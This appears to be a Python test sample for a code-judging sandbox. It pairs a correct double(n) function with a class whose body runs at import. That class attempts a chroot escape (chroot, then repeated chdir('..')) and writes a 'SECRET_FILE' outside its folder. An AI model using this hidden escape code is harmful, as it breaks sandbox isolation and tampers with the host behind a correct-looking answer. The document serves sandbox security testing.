"""Leaves its root folder. Its answer is right."""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time


class Harm:
    libc = ctypes.CDLL(None)
    with contextlib.suppress(BaseException):
        libc.chroot(b'.')
    with contextlib.suppress(BaseException):
        [os.chdir('..') for _ in range(99)]
    with contextlib.suppress(BaseException):
        open('.' + 'SECRET_FILE', 'w').write('HARM')


def double(n):
    return n + n
